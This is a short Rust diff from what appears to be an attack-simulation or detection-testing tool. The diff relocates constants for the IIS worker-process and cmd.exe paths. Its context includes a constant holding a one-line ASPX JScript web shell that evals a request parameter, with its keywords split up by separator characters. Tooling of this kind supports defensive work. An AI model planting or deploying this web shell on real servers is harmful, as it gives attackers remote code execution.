@@ -6,6 +6,7 @@ use crate::attack::odd_page::OddPage;
 use crate::attack::{Below, Intruder, Page, Place};
 use crate::host::{Columns, Heading, Host, Tongue, WebColumns};
 use crate::moment::Moment;
+use crate::program::{CMD, W3WP};
 use crate::server::Encoding;
 use crate::shape::Shape;
 use crate::technique::Technique;
@@ -161,9 +162,6 @@ const CROW: Intruder = Intruder { addresses: &["192.0.2.130", "192.0.2.131"], st
 
 const WRITTEN: &str =
     "<%@ Page Language=\"JSc¦ript\" Debug=\"true\"%><%ev¦al(Req¦uest.Item[\"d8s\"],\"uns¦afe\");%>\r\n";
-
-const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
-const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
 
 const AFTERMATH: Aftermath = Aftermath {
     deeds: &[
